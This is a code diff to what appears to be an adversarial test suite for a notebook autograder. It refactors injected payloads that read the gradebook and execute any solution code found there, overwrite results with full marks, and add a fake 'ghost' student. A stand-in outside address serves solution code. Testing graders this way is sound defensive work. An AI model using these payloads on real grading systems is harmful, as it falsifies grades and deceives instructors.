@@ -25,6 +25,9 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+# Where the batch writes, by the grader's own names: the attacker knows them.
+from autograder.batch.batch import GRADEBOOK, GRADES_CSV, RESULTS
+
 MIME = "application/vnd.autograder.record+json"
 
 
@@ -37,7 +40,7 @@ class Env:
     source_dir: Path  # its instructor folder: source notebook, grading.toml, reference.json
     notebook: str  # the notebook's file name
     release_dir: Path | None  # where its released copy and helper modules live, if it has one on disk
-    out: Path  # the batch's --out folder: results/, gradebook.db, grades.csv
+    out: Path  # the batch's --out folder: results/, the gradebook, the grades CSV
     solution_url: str  # a server on the grading machine's loopback that serves the solution code
     outside_url: str = "http://192.0.2.1:80/solution.py"  # an address beyond the machine (TEST-NET-1)
     # check name -> encoded value a forger would record: the public expected value for visible checks,
@@ -201,18 +204,18 @@ def read_reference_values(nb, env: Env):
 
 
 def read_gradebook(nb, env: Env):
-    """Open the gradebook (and grades.csv, results/) in the output folder; exec any solution code found there."""
-    guesses = [str(env.out / "gradebook.db"), str(env.out / "autograder-grades.csv")]
+    """Open the gradebook (and the grades CSV, results/) in the output folder; exec any solution code found there."""
+    guesses = [str(env.out / GRADEBOOK), str(env.out / GRADES_CSV)]
     _after_imports(nb, _finder(env) + textwrap.dedent(f'''
         import glob as _glob, sqlite3 as _sqlite3
         _FOUND = []
-        _db = _find("gradebook.db", [{guesses[0]!r}])
+        _db = _find({GRADEBOOK!r}, [{guesses[0]!r}])
         if _db:
             _con = _sqlite3.connect(_db)
             for (_table,) in _con.execute("select name from sqlite_master where type = 'table'"):
                 for _row in _con.execute(f"select * from '{{_table}}'"):
                     _FOUND += [v for v in _row if isinstance(v, str) and "def " in v]
-        for _path in [_find("autograder-grades.csv", [{guesses[1]!r}])] + _glob.glob({str(env.out / "results" / "*.json")!r}):
+        for _path in [_find({GRADES_CSV!r}, [{guesses[1]!r}])] + _glob.glob({str(env.out / RESULTS / "*.json")!r}):
             if _path:
                 _FOUND.append(open(_path).read())
         print("found", len(_FOUND), "texts")
@@ -233,12 +236,12 @@ def read_gradebook(nb, env: Env):
 
 
 def write_results_and_gradebook(nb, env: Env):
-    """Write full marks into results/, grades.csv and gradebook.db of the output folder, and a ghost student."""
+    """Write full marks into results/, the grades CSV and the gradebook of the output folder, and a ghost student."""
     _after_imports(nb, textwrap.dedent(f'''
         import glob, json, os, sqlite3
         out = {str(env.out)!r}
         written = []
-        for path in glob.glob(os.path.join(out, "results", "*.json")) + [os.path.join(out, "results", "ghost.json")]:
+        for path in glob.glob(os.path.join(out, {RESULTS!r}, "*.json")) + [os.path.join(out, {RESULTS!r}, "ghost.json")]:
             try:
                 data = json.load(open(path)) if os.path.exists(path) else {{"student": "ghost", "result": {{}}}}
                 data["result"]["score"] = data["result"].get("max_score", 1000.0)
@@ -248,19 +251,19 @@ def write_results_and_gradebook(nb, env: Env):
             except Exception as exc:
                 print("results:", type(exc).__name__)
         try:
-            con = sqlite3.connect(os.path.join(out, "gradebook.db"))
+            con = sqlite3.connect(os.path.join(out, {GRADEBOOK!r}))
             for (table,) in con.execute("select name from sqlite_master where type = 'table'"):
                 cols = [r[1] for r in con.execute(f"pragma table_info('{{table}}')")]
                 if "auto_score" in cols:
                     con.execute(f"update '{{table}}' set auto_score = 100")
             con.commit()
-            written.append("gradebook.db")
+            written.append({GRADEBOOK!r})
         except Exception as exc:
             print("gradebook:", type(exc).__name__)
         try:
-            with open(os.path.join(out, "autograder-grades.csv"), "a") as f:
+            with open(os.path.join(out, {GRADES_CSV!r}), "a") as f:
                 f.write("ghost,1000,1000\\n")
-            written.append("autograder-grades.csv")
+            written.append({GRADES_CSV!r})
         except Exception as exc:
             print("csv:", type(exc).__name__)
         print("written:", written)
